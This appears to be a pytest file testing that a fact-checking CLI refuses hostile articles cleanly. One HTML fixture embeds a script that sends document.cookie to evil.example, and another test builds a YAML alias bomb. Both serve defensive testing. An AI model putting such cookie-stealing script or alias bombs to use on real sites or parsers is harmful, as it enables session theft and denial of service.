"""Hostile and broken input through the commands a user runs: each ends in one clear error line
(a factcheck.errors message), in bounded time, and nothing already indexed is lost.

Sources in the corpus are covered one by one in test_corpus.py; here they go through `index`.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from factcheck.claims import extract_claims, read_article
from factcheck.errors import InputError
from tests.conftest import ROOT, write_source

pytestmark = pytest.mark.unit

FIFTY_MB = 50 * 1024 * 1024
SENTENCE = "xAI built the Colossus supercomputer in Memphis in 122 days, Nvidia said. "


def run(*args: str, env: dict | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "factcheck", *args],
        capture_output=True,
        cwd=ROOT,
        env={**os.environ, "FACTCHECK_EMBEDDER": "hash", **(env or {})},
        timeout=timeout,
    )


def one_line(r: subprocess.CompletedProcess) -> str:
    lines = r.stderr.decode().strip().splitlines()
    assert r.returncode == 1 and len(lines) == 1, (r.returncode, lines)
    assert lines[0].startswith("error: ") and "Traceback" not in lines[0]
    return lines[0]


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    files = {
        "empty": b"",
        "blank": b" \n\t\n",
        "binary": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01",
        "latin1": ("Le supercalculateur a \u00e9t\u00e9 construit \u00e0 Memphis en 122 jours.").encode("latin-1"),
        "utf16": SENTENCE.encode("utf-16"),
        "huge": SENTENCE.encode() * (FIFTY_MB // len(SENTENCE) + 1),
        "broken_yaml": b"---\ntitle: [unclosed\npublished: 2024-12-05\n---\n" + SENTENCE.encode(),
        "bad_date": b"---\ntitle: T\npublished: 5 December\n---\n" + SENTENCE.encode(),
    }
    paths = {}
    for name, data in files.items():
        paths[name] = folder / f"{name}.md"
        paths[name].write_bytes(data)
    return paths


CASES = [
    ("empty", "is empty"),
    ("blank", "is empty"),
    ("binary", "binary"),
    ("latin1", "not valid UTF-8"),
    ("utf16", "UTF-16"),
    ("huge", "the limit is"),
    ("broken_yaml", "front matter is not valid YAML"),
    ("bad_date", "ISO date"),
]


@pytest.mark.parametrize("command", ["claims", "check"])
@pytest.mark.parametrize(("case", "message"), CASES)
def test_a_hostile_article_is_one_clear_error_and_touches_no_index(hostile_files, tmp_path, command, case, message):
    data_dir = tmp_path / "data"
    started = time.perf_counter()
    r = run(command, str(hostile_files[case]), env={"FACTCHECK_DATA_DIR": str(data_dir)})
    assert message in one_line(r)
    assert time.perf_counter() - started < 60
    assert not data_dir.exists(), "a refused article must be refused before any model or index is opened"


def test_a_hostile_article_on_standard_input_too(hostile_files):
    r = subprocess.run(
        [sys.executable, "-m", "factcheck", "claims", "-"],
        input=hostile_files["huge"].read_bytes(),
        capture_output=True,
        cwd=ROOT,
        timeout=120,
    )
    assert "the limit is" in one_line(r)


def test_front_matter_with_missing_fields_is_fine_for_an_article():
    """An article's front matter is optional, field by field: what is missing is simply not known."""
    article = read_article(b"---\nlanguage: en\n---\n" + SENTENCE.encode(), "a.md")
    assert (article.title, article.published, article.language) == ("", None, "en")
    assert extract_claims(article)


def _in_subprocess(code: str, timeout: float) -> subprocess.CompletedProcess:
    """Run code in a child with a deadline: a quadratic parse cannot be interrupted in-process."""
    return subprocess.run([sys.executable, "-c", code], capture_output=True, cwd=ROOT, timeout=timeout)


def test_a_long_line_of_many_short_sentences_is_read_quickly():
    line = SENTENCE * 200  # 15,000 characters without a line break
    started = time.perf_counter()
    article = read_article(line.encode(), "line.txt")
    claims = extract_claims(article)
    assert time.perf_counter() - started < 30
    assert claims and all(0 <= c.span[0] < c.span[1] <= len(article.text) for c in claims)


@pytest.mark.slow
def test_a_185000_character_line_is_read_in_bounded_time():
    code = (
        "from factcheck.claims import read_article, extract_claims\n"
        f"text = {SENTENCE!r} * 2500\n"
        "article = read_article(text, 'line.txt')\n"
        "claims = extract_claims(article)\n"
        "assert claims and all(0 <= c.span[0] < c.span[1] <= len(article.text) for c in claims)\n"
    )
    r = _in_subprocess(code, timeout=30)
    assert r.returncode == 0, r.stderr.decode()[-2000:]


@pytest.mark.slow
def test_one_enormous_sentence_is_refused_or_read_quickly():
    code = (
        "from factcheck.claims import read_article, extract_claims\n"
        "from factcheck.errors import InputError\n"
        f"text = {SENTENCE[:-2]!r} * 2500\n"
        "try:\n"
        "    claims = extract_claims(read_article(text.replace(',', '').replace('.', ''), 'one.txt'))\n"
        "    print(max((len(c.text) for c in claims), default=0))\n"
        "except InputError as exc:\n"
        "    print('refused', exc)\n"
    )
    r = _in_subprocess(code, timeout=20)
    assert r.returncode == 0, r.stderr.decode()[-2000:]


@pytest.mark.slow
def test_a_100000_character_claim_is_a_clear_error(tiny_corpus, tmp_path):
    claim = (SENTENCE * 1_400)[:100_000]
    r = run(
        "verify",
        claim,
        env={"FACTCHECK_CORPUS_DIR": str(tiny_corpus), "FACTCHECK_DATA_DIR": str(tmp_path / "d")},
        timeout=30,
    )
    assert re.search(r"too long|characters|limit", one_line(r))


def test_an_html_article_never_yields_its_scripts_or_markup():
    page = (
        "<html><head><title>Colossus</title><script>var stolen = document.cookie; "
        "sendTo('https://evil.example/collect', stolen); // Nvidia said 122 days</script></head>"
        f'<body onload="steal()"><p onclick="alert(1)">{SENTENCE}</p><p>{SENTENCE}</p></body></html>'
    )
    article = read_article(page.encode(), "page.html")
    claims = extract_claims(article)
    assert claims
    for text in [article.text, *(c.text for c in claims)]:
        assert "document.cookie" not in text and "onclick" not in text and "<p" not in text


def test_a_yaml_alias_bomb_in_an_article_is_refused_quickly():
    levels = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for prev, name in zip("abcdefg", "bcdefgh", strict=True):
        levels.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    front = "\n".join(levels) + "\ntitle: [" + ", ".join(["*h"] * 9) + "]"
    code = (
        "from factcheck.claims import read_article\n"
        "from factcheck.errors import InputError\n"
        f"data = {('---' + chr(10) + front + chr(10) + '---' + chr(10) + SENTENCE).encode()!r}\n"
        "try:\n"
        "    read_article(data, 'bomb.md')\n"
        "    print('accepted')\n"
        "except InputError as exc:\n"
        "    print('refused', exc)\n"
    )
    r = _in_subprocess(code, timeout=10)
    assert r.stdout.decode().startswith("refused"), r.stdout.decode() + r.stderr.decode()[-1000:]


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Der Supercomputer wurde in nur drei Monaten in Memphis gebaut und hat sehr viele Grafikkarten.", "German"),
        ("El superordenador fue construido en tres meses en Memphis y tiene muchas tarjetas gráficas.", "Spanish"),
    ],
)
def test_text_in_an_unsupported_language_is_refused_by_name(text, name):
    with pytest.raises(InputError, match=f"reads as {name}"):
        read_article(text, "pasted text")


@pytest.mark.parametrize(
    "text",
    [
        "Суперкомпьютер был построен в Мемфисе всего за сто двадцать два дня компанией xAI.",
        "超级计算机在孟菲斯用了一百二十二天建成，英伟达表示这是世界上最大的。",
    ],
)
def test_text_in_another_script_is_refused(text):
    with pytest.raises(InputError, match=r"reads as \w+"):
        read_article(text, "pasted text")


def test_broken_corpus_sources_stop_index_and_lose_nothing(tiny_corpus, tmp_path, hostile_files):
    env = {"FACTCHECK_DATA_DIR": str(tmp_path / "d"), "FACTCHECK_CORPUS_DIR": str(tiny_corpus)}
    first = run("index", "--format", "json", env=env)
    assert first.returncode == 0, first.stderr.decode()
    assert json.loads(first.stdout)["added"] == 3

    write_source(tiny_corpus, "nvidia", "xAI built Colossus in 300 days.")  # an edit held back with the bad files
    for case in ("empty", "binary", "latin1", "huge", "broken_yaml"):
        (tiny_corpus / f"{case}.md").write_bytes(hostile_files[case].read_bytes())
    (tiny_corpus / "page.html").write_bytes(b"<title>x</title><script>only()</script>")  # no visible text
    r = run("index", env=env)
    err = r.stderr.decode()
    assert r.returncode == 1 and err.startswith("error: ") and "Traceback" not in err
    for name in ("empty.md", "binary.md", "latin1.md", "huge.md", "broken_yaml.md", "page.html"):
        assert name in err, name

    for name in ("empty.md", "binary.md", "latin1.md", "huge.md", "broken_yaml.md", "page.html"):
        (tiny_corpus / name).unlink()
    write_source(
        tiny_corpus,
        "nvidia",
        "xAI built the Colossus supercomputer in Memphis in 122 days. "
        "Training started 19 days after the first rack arrived.",
        publisher="NVIDIA",
    )
    again = run("index", "--format", "json", env=env)
    assert again.returncode == 0, again.stderr.decode()
    report = json.loads(again.stdout)
    assert (report["added"], report["updated"], report["removed"], report["unchanged"]) == (0, 0, 0, 3)


@pytest.mark.slow
def test_a_50_mb_claims_file_for_verify_is_refused(hostile_files, tiny_corpus, tmp_path):
    claims = tmp_path / "claims.txt"
    claims.write_bytes(hostile_files["huge"].read_bytes().replace(b". ", b".\n"))
    r = run(
        "verify",
        "--file",
        str(claims),
        env={"FACTCHECK_CORPUS_DIR": str(tiny_corpus), "FACTCHECK_DATA_DIR": str(tmp_path / "d")},
        timeout=30,
    )
    assert re.search(r"limit|too (?:long|many)|characters", one_line(r))
